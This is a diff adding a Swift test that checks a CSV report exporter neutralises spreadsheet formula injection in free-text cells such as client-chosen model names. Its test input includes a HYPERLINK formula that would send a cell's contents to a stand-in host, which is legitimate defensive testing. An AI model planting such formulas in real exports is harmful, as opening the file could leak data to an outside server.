@@ -7,6 +7,18 @@ import Testing
 /// The hourly rollup, its backfill, the chargeback month in a time zone, export paging and pruning,
 /// in-process on real SQLite files.
 @Suite struct ReportsAndRetentionTests {
+    /// A model name a client chose is text, never a formula a spreadsheet runs (review finding: CSV
+    /// injection); amounts, negative ones too, stay numbers.
+    @Test func freeTextCellsCannotBecomeFormulas() throws {
+        #expect(ReportCSV.text(#"=HYPERLINK("http://x/?"&A1,"x")"#) == #"'=HYPERLINK("http://x/?"&A1,"x")"#)
+        for start in ["+", "-", "@", "\t", "\r"] { #expect(ReportCSV.text(start + "1") == "'" + start + "1") }
+        #expect(ReportCSV.text("openai/gpt-4o") == "openai/gpt-4o" && ReportCSV.text("") == "")
+        var event = UsageEvent(requestId: "r1", userId: 1, apiKeyId: 1, providerId: 1, model: "=1+1", status: 200)
+        event.providerCost = Amount(nanos: -5)
+        let line = String(decoding: try ReportCSV.usage([event]), as: UTF8.self)
+        #expect(line.contains(",'=1+1,") && line.contains(",-0.000000005,"))
+    }
+
     @Test func aNewDatabaseHandsFreedPagesBackIncrementally() throws {
         let hub = try TemporaryHub()
         #expect(try hub.store.read(UsageRetention.isIncremental))
